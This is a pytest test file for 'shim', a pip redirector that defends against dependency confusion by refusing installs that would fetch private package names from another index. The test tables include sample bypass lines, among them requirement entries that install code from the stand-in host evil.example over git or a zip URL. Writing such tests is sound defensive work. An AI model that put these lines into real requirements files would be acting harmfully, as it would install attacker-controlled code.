"""Who may step around the redirector: each way is closed, or the command stops with one message. Never silently unprotected."""

from __future__ import annotations

import json
import os
import tomllib
from collections.abc import Iterator
from hashlib import sha256
from itertools import product
from pathlib import Path

import pytest

from shim.cli.demo.packages import build_wheel
from tests.support import toolchains
from tests.support.bait_table import BACKEND, BUILD_SYSTEM
from tests.support.routed import OURS, Pair, forwarding_proxy, installed, make_pair
from tests.support.world import World


@pytest.fixture
def pair(world: World, tmp_path: Path) -> Iterator[Pair]:
    world.use(toolchains.pip("newest"))
    with make_pair(world, tmp_path / "indexes") as made:
        made.configure()
        yield made


def both(pair: Pair) -> tuple[str, ...]:
    return ("-i", pair.private_url, "--extra-index-url", pair.public_url)


def install(pair: Pair, *words: object, **environ: str) -> tuple[int, str, dict[str, str]]:
    """Return the status, stderr, and what was installed."""
    target = pair.world.folder / "out"
    done = pair.world.run("pip", "install", "--target", target, *words, **environ)
    return done.returncode, done.stderr, installed(target)


#: Files that are written (`{public}` is the stranger's index, `{wheel}` its wheel) and what is typed -> what the message says.
STOPPED: dict[str, tuple[dict[str, str], tuple[str, ...], str]] = {
    "index line": ({"r.txt": "--index-url {public}\ncorp-lib\n"}, ("-r", "r.txt"), "r.txt:1 names an index of its own, {public}"),
    "extra index line": ({"r.txt": "corp-lib\n--extra-index-url={public}\n"}, ("-r", "r.txt"), "r.txt:2 names an index of its own"),
    "abbreviated": ({"r.txt": "corp-lib\n--extra-i {public}\n"}, ("-r", "r.txt"), "r.txt:2 names an index of its own"),
    "in an included file": ({"r.txt": "-r more.txt\n", "more.txt": "corp-lib\n-i {public}\n"}, ("-r", "r.txt"), "more.txt:2 names an index"),
    "in a constraints file": ({"c.txt": "-i {public}\n"}, ("-c", "c.txt", "corp-lib"), "c.txt:1 names an index"),
    "of a folder": ({"r.txt": "--index-url ./simple\ncorp-lib\n"}, ("-r", "r.txt"), "r.txt:1 names an index of its own, ./simple"),
    "find-links line": ({"r.txt": "-f {public}corp-lib/\ncorp-lib\n"}, ("-r", "r.txt"), "r.txt:1 names"),
    "a folder with the name in it": ({"r.txt": "-f {folder}\ncorp-lib\n"}, ("-r", "r.txt"), "r.txt:1 names a place of links"),
    "direct URL": ({"r.txt": "corp-lib @ {wheel}\n"}, ("-r", "r.txt"), "r.txt:1 takes corp-lib from {wheel}, and it belongs to [[index]] corp"),
    "bare URL": ({"r.txt": "{wheel}\n"}, ("-r", "r.txt"), "r.txt:1 takes corp-lib from"),
    "git": ({"r.txt": "Corp.Lib @ git+https://evil.example/x.git\n"}, ("-r", "r.txt"), "r.txt:1 takes corp-lib from git+https://evil.example/x.git"),
    "egg": ({"r.txt": "-e git+https://evil.example/x.git#egg=corp_lib\n"}, ("-r", "r.txt"), "r.txt:1 takes corp-lib from"),
    "who knows": ({"r.txt": "https://evil.example/main.zip\n"}, ("-r", "r.txt"), "r.txt:1 names a file whose package shim cannot tell"),
    "constrained": ({"c.txt": "corp-lib @ {wheel}\n"}, ("-c", "c.txt", "corp-lib"), "c.txt:1 takes corp-lib from"),
    "project": (
        {"p/pyproject.toml": '[project]\nname = "p"\nversion = "1"\ndependencies = ["corp-lib @ {wheel}"]\n'},
        ("./p",),
        "p/pyproject.toml takes corp-lib from",
    ),
    "setup.cfg": ({"p/setup.cfg": "[options]\ninstall_requires =\n  corp-lib @ {wheel}\n"}, ("-e", "./p"), "p/setup.cfg takes corp-lib from"),
    "lock": (
        {"pylock.toml": 'lock-version = "1.0"\n[[packages]]\nname = "corp-lib"\nversion = "99.0"\n[[packages.wheels]]\nurl = "{wheel}"\nhashes = {{}}\n'},
        ("-r", "pylock.toml"),
        "pylock.toml takes corp-lib from",
    ),
    "remote requirements": ({}, ("-r", "{public}r.txt"), "/simple/r.txt may name an index"),
    "page of links": ({}, ("-f", "{public}corp-lib/", "corp-lib"), "argv --find-links names a page of links"),
    "index on disk": ({}, ("-i", "file:///nowhere/simple", "corp-lib"), "argv --index-url names an index on disk"),
}


@pytest.mark.parametrize("way", STOPPED)
def test_a_way_around_is_stopped_with_one_message(way: str, pair: Pair) -> None:
    files, words, message = STOPPED[way]
    folder = pair.world.cwd / "wheels"
    folder.mkdir()
    wheel = build_wheel(str(folder), "corp-lib", {"corp_lib.py": ""}, "99.0")
    texts = {"public": pair.public_url, "wheel": f"{pair.public_url.removesuffix('simple/')}files/{wheel}", "folder": str(folder)}
    for name, text in files.items():
        (pair.world.cwd / name).parent.mkdir(exist_ok=True)
        (pair.world.cwd / name).write_text(text.format(**texts))
    status, said, there = install(pair, *both(pair), *(word.format(**texts) for word in words))

    assert (status, there) == (77, {}), said
    assert message.format(**texts) in said
    assert said.count("shim: error[cannot-route]: ") == 1
    assert said.count("\nhint: ") == 1
    assert pair.asked_public() == set()


def test_a_pipe_that_only_pip_can_read_may_name_an_index(pair: Pair) -> None:
    words = " ".join(both(pair))
    done = pair.world.run("bash", "-c", f"pip install --target out {words} -r <(echo -i {pair.public_url}; echo corp-lib)")

    assert done.returncode == 77
    assert "may name an index" in done.stderr


def test_what_the_hints_say_works(pair: Pair) -> None:
    """The line is taken out and the index named in a variable; the name is written in front of a URL."""
    (pair.world.cwd / "r.txt").write_text("corp-lib\nonly-public\n")
    status, said, there = install(pair, "-i", pair.private_url, "-r", "r.txt", PIP_EXTRA_INDEX_URL=pair.public_url)

    assert status == 0, said
    assert there == {"corp-lib": OURS, "only-public": "3.0"}


def test_a_folder_of_files_that_the_user_names_is_his_business(pair: Pair) -> None:
    folder = pair.world.cwd / "wheels"
    folder.mkdir()
    build_wheel(str(folder), "corp-lib", {"corp_lib.py": ""}, "5.0")
    status, said, there = install(pair, *both(pair), "--find-links", "wheels", "corp-lib")

    assert (status, there) == (0, {"corp-lib": "5.0"}), said


def test_a_direct_url_that_the_user_types_is_his_business(pair: Pair) -> None:
    url = pair.public_url.removesuffix("simple/") + "files/corp_lib-99.0-py3-none-any.whl"
    status, said, there = install(pair, *both(pair), f"corp-lib @ {url}")

    assert (status, there) == (0, {"corp-lib": "99.0"}), said


@pytest.mark.parametrize(("where", "pip"), [("argv", "23.2.1"), ("argv", "newest"), ("variables", "25.3"), ("pip.conf", "newest"), ("aliases", "20.3.4")])
def test_indexes_are_taken_away_wherever_they_are_said(where: str, pip: str, pair: Pair) -> None:
    pair.world.use(toolchains.pip(pip))
    words: tuple[str, ...] = ()
    environ: dict[str, str] = {}
    if where == "argv":
        words = (f"-qi{pair.private_url}", "--extra-index", pair.public_url, f"--extra-index-url={pair.public_url}")
    elif where == "variables":
        environ = {"PIP_INDEX_URL": pair.private_url, "PIP_EXTRA_INDEX_URL": pair.public_url}
    elif where == "aliases":
        environ = {"PIP_PYPI_URL": pair.public_url, "PIP_index_url": pair.private_url}
    else:
        file = pair.world.folder / "pip.conf"
        file.write_text(f"[global]\nindex-url = {pair.private_url}\n[install]\nextra-index-url = {pair.public_url}\n")
        environ = {"PIP_CONFIG_FILE": str(file)}
    status, said, there = install(pair, "corp-app", *words, **environ)

    assert (status, there) == (0, {"corp-app": OURS, "corp-lib": OURS}), said
    assert not pair.asked_public() & {"corp-app", "corp-lib"}


def test_hashes_and_an_editable_project(pair: Pair) -> None:
    wheel = next(Path(pair.private._folder).glob("corp_lib-*.whl"))
    (pair.world.cwd / "hashes.txt").write_text(f"corp-lib==1.0 --hash=sha256:{sha256(wheel.read_bytes()).hexdigest()}\n")
    folder = pair.world.cwd / "project"
    folder.mkdir()
    static = '[project]\nname = "project"\nversion = "1"\ndependencies = ["corp-lib"]\n'
    (folder / "pyproject.toml").write_text(BUILD_SYSTEM + static)
    (folder / "project_backend.py").write_text(BACKEND + "build_editable = build_wheel\n")
    status, said, there = install(pair, *both(pair), "--require-hashes", "-r", "hashes.txt")
    again, said_again, both_there = install(pair, *both(pair), "--upgrade", "-e", "./project")

    assert (status, there) == (0, {"corp-lib": OURS}), said
    assert (again, both_there) == (0, {"corp-lib": OURS, "project": "1"}), said_again
    assert not pair.asked_public() & {"corp-lib", "corp-build"}


def test_isolated_is_rewritten(pair: Pair) -> None:
    status, said, there = install(pair, "--isolated", *both(pair), "corp-sdist", PIP_EXTRA_INDEX_URL=pair.public_url)

    assert (status, there) == (0, {"corp-sdist": OURS}), said
    assert not pair.asked_public() & {"corp-sdist", "corp-build"}


def test_isolated_with_a_file_that_names_an_index_is_stopped(pair: Pair) -> None:
    file = pair.world.folder / "pip.conf"
    file.write_text(f"[global]\nextra-index-url = {pair.public_url}\n")
    status, said, there = install(pair, "--isolated", "-i", pair.private_url, "corp-lib", PIP_CONFIG_FILE=str(file))

    assert (status, there) == (77, {})
    assert f"--isolated keeps pip from what shim would tell it, and {file}:2 names another index" in said


#: Each place with two releases, each release with two places at least; SHIM_TEST_MATRIX=all has all of them.
PLACES, PIPS = ("variables", "--proxy", "PIP_PROXY", "pip.conf", "pip.conf of install"), ("20.3.4", "23.2.1", "25.3", "newest")
PROXIES = list(product(PLACES, PIPS)) if os.environ.get("SHIM_TEST_MATRIX") == "all" else list(zip(PLACES * 2, PIPS * 3, strict=False))


def test_without_an_index_nothing_changes(pair: Pair) -> None:
    folder = pair.world.cwd / "wheels"
    folder.mkdir()
    build_wheel(str(folder), "free-lib", {"free_lib.py": ""}, "5.0")
    status, said, there = install(pair, "--no-index", "-f", "wheels", "free-lib")

    assert (status, there) == (0, {"free-lib": "5.0"}), said
    assert pair.private.requests == []


@pytest.mark.parametrize(("where", "pip"), PROXIES)
def test_a_proxy_is_kept_for_every_server_and_never_asked_for_the_redirector(where: str, pip: str, pair: Pair, tmp_path: Path) -> None:
    pair.world.use(toolchains.pip(pip))
    with forwarding_proxy() as (proxy, asked):
        words: tuple[str, ...] = ()
        environ: dict[str, str] = {}
        if where == "variables":
            environ = {"http_proxy": proxy}
        elif where == "--proxy":
            words = ("--proxy", proxy)
        elif where == "PIP_PROXY":
            environ = {"PIP_PROXY": proxy}
        else:
            file = tmp_path / "pip.conf"
            section = "install" if where.endswith("install") else "global"
            file.write_text(f"[{section}]\nproxy = {proxy}\nextra-index-url = {pair.public_url}\nno-compile = true\n")
            environ = {"PIP_CONFIG_FILE": str(file)}
        status, said, there = install(pair, *both(pair), *words, "corp-sdist", **environ)

    assert (status, there) == (0, {"corp-sdist": OURS}), said
    assert {f"{pair.private_url}corp-sdist/", f"{pair.private_url}corp-build/"} <= set(asked)
    assert all(text.startswith((f"{pair.private_url[:-7]}", f"{pair.public_url[:-7]}")) for text in asked)
    assert not pair.asked_public() & {"corp-sdist", "corp-build"}


def test_reports_and_locks_name_the_real_index(pair: Pair) -> None:
    report, lock = pair.world.cwd / "report.json", pair.world.cwd / "pylock.toml"
    first = pair.world.run("pip", "install", "--dry-run", "--report", report, *both(pair), "corp-app")
    second = pair.world.run("pip", "lock", "-o", lock, *both(pair), "corp-app")

    assert (first.returncode, second.returncode) == (0, 0), first.stderr + second.stderr
    urls = {item["download_info"]["url"] for item in json.loads(report.read_text())["install"]}
    assert all(url.startswith(pair.private_url.removesuffix("simple/")) for url in urls)
    assert "127.0.0.1" not in report.read_text() + lock.read_text()
    assert {package["name"] for package in tomllib.loads(lock.read_text())["packages"]} == {"corp-app", "corp-lib"}


@pytest.mark.parametrize("words", [("download", "-d", "out"), ("wheel", "-w", "out")])
def test_other_verbs_fetch_ours(words: tuple[str, ...], pair: Pair) -> None:
    done = pair.world.run("pip", *words, *both(pair), "corp-lib")

    assert done.returncode == 0, done.stderr
    assert [path.name for path in (pair.world.cwd / "out").iterdir()] == ["corp_lib-1.0-py3-none-any.whl"]


def test_index_versions_and_outdated_see_ours_alone(pair: Pair, tmp_path: Path) -> None:
    tool = toolchains.pip_environment(toolchains.pip("newest"), tmp_path / "venv")
    pair.world.use(tool)
    versions = pair.world.run("pip", "index", "versions", *both(pair), "corp-lib")
    outdated = pair.world.run("pip", "list", "--outdated", "--format=json", *both(pair))

    assert versions.returncode == 0, versions.stderr
    assert "Available versions: 1.0\n" in versions.stdout
    assert outdated.returncode == 0, outdated.stderr
    assert "99.0" not in outdated.stdout
    assert "corp-lib" not in pair.asked_public()
